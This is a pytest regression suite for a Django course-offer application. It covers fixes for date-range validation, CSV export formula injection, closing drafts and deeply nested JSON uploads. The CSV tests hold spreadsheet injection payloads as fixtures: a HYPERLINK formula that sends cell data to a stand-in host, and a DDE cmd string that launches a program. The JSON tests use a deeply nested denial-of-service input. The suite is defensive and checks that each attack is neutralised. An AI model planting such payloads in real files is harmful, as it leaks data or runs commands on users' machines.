"""Findings of the probe of issue 17 about offers, each shown fixed from a user's side:

- terms of 9999-12-31 or 0001-01-01 were accepted (API, form, import) and broke matching
  for everyone: one rule now (2000-01-01 to 2100-12-31, at most four years), said the
  same way everywhere and kept by the database, which also brings older rows inside;
- the CSV export wrote formula-like cells unquoted: quoted now, and the import unquotes
  them, so export → import gives the very same text;
- closing a draft was a 500 (a constraint wanted a publication date): it is closed now
  without one, and stays private;
- a JSON upload nested 5,000 levels deep crashed the import: a clear refusal now."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.db import IntegrityError, connection, transaction
from django.db.migrations.executor import MigrationExecutor
from django.urls import reverse

from offers import importing
from offers.importing import jobs as worker
from offers.models import ImportJob, ImportStatus, Offer, OfferStatus
from tests import factories
from tests.offers.test_import import IMPORT, csv_file, good_row, reference, upload  # noqa: F401
from tests.offers.test_offer_pages import form_post

pytestmark = pytest.mark.django_db

API_LIST = reverse("api:offer-list")
OUTSIDE = "Give a date from 2000-01-01 to 2100-12-31."
TOO_LONG = (
    "A term lasts at most four years; give the dates of the term in which the joint part can run."
)


@pytest.fixture
def dave(european_institution):
    return factories.lecturer(european_institution, email="dave@wageningenuniversity.nl")


# --- one rule for the term, everywhere ------------------------------------------------------

BAD_TERMS = [
    pytest.param({"term_end": "9999-12-31"}, "term_end", OUTSIDE, id="ends in 9999"),
    pytest.param({"term_start": "0001-01-01"}, "term_start", OUTSIDE, id="starts in year 1"),
    pytest.param(
        {"term_start": "2027-02-01", "term_end": "2037-02-01"}, "term_end", TOO_LONG, id="10 years"
    ),
]


@pytest.mark.parametrize(("dates", "field", "message"), BAD_TERMS)
def test_the_api_refuses_a_term_outside_the_window_and_says_why(
    api, alice, offer_json, dates, field, message
):
    api.force_login(alice)
    response = api.post(API_LIST, offer_json(**dates))
    assert response.status_code == 400
    assert message in response.json()[field]
    assert not Offer.objects.exists()


@pytest.mark.parametrize(("dates", "field", "message"), BAD_TERMS)
def test_the_form_refuses_it_in_the_same_words(
    client, alice, asian_institution, dates, field, message
):
    client.force_login(alice)
    response = client.post(
        reverse("offers:offer-create"),
        form_post(**{"offer-institution": asian_institution.pk, **dates}),
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Offer.objects.exists()


@pytest.mark.parametrize(("dates", "field", "message"), BAD_TERMS)
def test_the_import_refuses_the_row_in_the_same_words(
    alice, asian_institution, dates, field, message
):
    report = importing.offers_import(
        institution=asian_institution, content=csv_file([good_row(**dates)]), format="csv"
    )
    assert [r.errors[field] for r in report.rejected] == [[message]]
    assert not Offer.objects.exists()


def test_the_edges_of_the_window_are_allowed(api, alice, offer_json):
    api.force_login(alice)
    first = api.post(API_LIST, offer_json(term_start="2000-01-01", term_end="2000-06-30"))
    last = api.post(API_LIST, offer_json(term_start="2097-01-01", term_end="2100-12-31"))
    assert (first.status_code, last.status_code) == (201, 201)


@pytest.mark.parametrize(
    "change",
    [
        {"term_end": dt.date(9999, 12, 31)},
        {"term_start": dt.date(1, 1, 1)},
        {"term_end": dt.date(2037, 2, 1)},
    ],
    ids=["ends in 9999", "starts in year 1", "10 years"],
)
def test_the_database_refuses_such_a_term_written_past_the_rules(alice, change):
    offer = factories.make_offer(alice)
    with pytest.raises(IntegrityError), transaction.atomic():
        Offer.objects.filter(pk=offer.pk).update(**change)


@pytest.mark.django_db(transaction=True)
def test_the_migration_brings_older_terms_inside_the_window(alice):
    kept = factories.make_offer(alice, title="A usual term")
    far = factories.make_offer(alice, title="Ends in 9999")
    early = factories.make_offer(alice, title="Starts in year 1")
    executor = MigrationExecutor(connection)
    executor.migrate([("offers", "0002_import_job")])
    try:
        old = executor.loader.project_state([("offers", "0002_import_job")]).apps
        OldOffer = old.get_model("offers", "Offer")
        OldOffer.objects.filter(pk=far.pk).update(term_end=dt.date(9999, 12, 31))
        OldOffer.objects.filter(pk=early.pk).update(term_start=dt.date(1, 1, 1))
    finally:
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())
    terms = dict(Offer.objects.values_list("title", "term_start"))
    ends = dict(Offer.objects.values_list("title", "term_end"))
    assert (terms["A usual term"], ends["A usual term"]) == (kept.term_start, kept.term_end)
    assert (terms["Ends in 9999"], ends["Ends in 9999"]) == (
        far.term_start,
        far.term_start + dt.timedelta(days=4 * 365 + 1),
    )
    assert (terms["Starts in year 1"], ends["Starts in year 1"]) == (
        early.term_end - dt.timedelta(days=4 * 365 + 1),
        early.term_end,
    )


def test_a_copy_that_would_leave_the_window_is_refused_in_words(client, alice):
    offer = factories.make_offer(
        alice, term_start=dt.date(2100, 2, 1), term_end=dt.date(2100, 6, 30)
    )
    client.force_login(alice)
    response = client.post(reverse("offers:offer-duplicate", args=[offer.pk]), follow=True)
    assert response.status_code == 200
    assert "No copy was made" in response.content.decode()
    assert OUTSIDE in response.content.decode()
    assert Offer.objects.count() == 1


# --- formula injection in the CSV export ----------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"


def _export(client) -> bytes:
    return b"".join(client.get(reverse("offers:offer-export")).streaming_content)


def test_the_export_quotes_formulas_and_the_import_gives_the_text_back(client, alice, bob):
    factories.make_offer(alice, title=HYPERLINK, description=CALC, learning_outcomes="'@ once")
    factories.make_offer(alice, title="-40 °C field work", description="@home, then abroad")
    client.force_login(bob)
    content = _export(client)
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    cells = {(r["title"], r["description"], r["learning_outcomes"]) for r in rows}
    # A spreadsheet reads a cell starting with ' as text: nothing runs.
    assert ("'" + HYPERLINK, "'" + CALC, "''@ once") in cells
    assert any(title == "'-40 °C field work" for title, _d, _o in cells)
    for title, description, outcomes in cells:
        for cell in (title, description, outcomes):
            assert not cell.startswith(("=", "+", "-", "@"))

    texts = set(Offer.objects.values_list("title", "description", "learning_outcomes"))
    institution = Offer.objects.first().institution
    Offer.objects.all().delete()
    report = importing.offers_import(institution=institution, content=content, format="csv")
    assert report.rejected == []
    assert set(Offer.objects.values_list("title", "description", "learning_outcomes")) == texts


def test_an_offer_whose_row_cannot_be_written_is_left_out_of_the_export(client, alice, bob, caplog):
    factories.make_offer(alice, title="A good course")
    broken = factories.make_offer(alice, title="A broken course")
    Offer.objects.filter(pk=broken.pk).update(skills=7)  # not a list: past every rule
    client.force_login(bob)
    response = client.get(reverse("offers:offer-export"))
    assert response.status_code == 200
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )
    assert [r["title"] for r in rows] == ["A good course"]
    assert any(f"offer {broken.pk} left out" in r.getMessage() for r in caplog.records)


# --- closing a draft ------------------------------------------------------------------------


@pytest.fixture
def draft(alice):
    return factories.make_offer(alice, publish=False, title="Alice's unfinished draft")


@pytest.mark.parametrize("who", ["alice", "bob"])  # the owner; the institution's office
def test_a_draft_is_closed_from_its_page(client, request, draft, who):
    client.force_login(request.getfixturevalue(who))
    response = client.post(reverse("offers:offer-close", args=[draft.pk]), follow=True)
    assert response.status_code == 200
    assert "The offer is closed." in response.content.decode()
    draft.refresh_from_db()
    assert (draft.status, draft.published_at) == (OfferStatus.CLOSED, None)


@pytest.mark.parametrize("who", ["alice", "bob"])
def test_a_draft_is_closed_through_the_api(api, request, draft, who):
    api.force_login(request.getfixturevalue(who))
    response = api.post(reverse("api:offer-close", args=[draft.pk]))
    assert response.status_code == 200
    assert response.json()["status"] == "closed"
    assert response.json()["published_at"] is None


def test_a_closed_draft_stays_private(client, api, alice, dave, draft):
    api.force_login(alice)
    api.post(reverse("api:offer-close", args=[draft.pk]))
    client.force_login(dave)
    assert client.get(draft.get_absolute_url()).status_code == 404
    assert "unfinished draft" not in client.get(reverse("offers:offer-list")).content.decode()
    api.force_login(dave)
    assert api.get(reverse("api:offer-detail", args=[draft.pk])).status_code == 404
    assert api.get(API_LIST).json()["results"] == []


# --- a JSON upload nested 5,000 levels deep -------------------------------------------------

DEEP = ("[" * 5000 + "]" * 5000).encode()
DEEP_CELL = json.dumps([{**good_row(), "title": json.loads("[" * 50 + '"x"' + "]" * 50)}]).encode()
TOO_DEEP = (
    "The JSON nests lists or objects more than 10 levels deep; an offer is an object of "
    "column: value, and a value is a text, a number or a list of them."
)


@pytest.mark.parametrize("content", [DEEP, DEEP_CELL], ids=["5,000 levels", "a cell 50 deep"])
def test_the_upload_page_refuses_a_deeply_nested_json_in_words(
    client, bob, asian_institution, content
):
    client.force_login(bob)
    response = client.post(
        IMPORT, {"institution": asian_institution.pk, "file": upload(content, "offers.json")}
    )
    assert response.status_code == 200
    assert TOO_DEEP in response.content.decode()
    assert not ImportJob.objects.exists()


def test_a_job_with_such_a_file_ends_failed_with_the_reason(asian_institution):
    job = ImportJob.objects.create(
        institution=asian_institution, filename="offers.json", format="json", content=DEEP
    )
    job = worker.import_job_run(job_id=job.pk, stale_seconds=60)
    assert job.status == ImportStatus.FAILED
    assert job.error == TOO_DEEP
    assert not Offer.objects.exists()
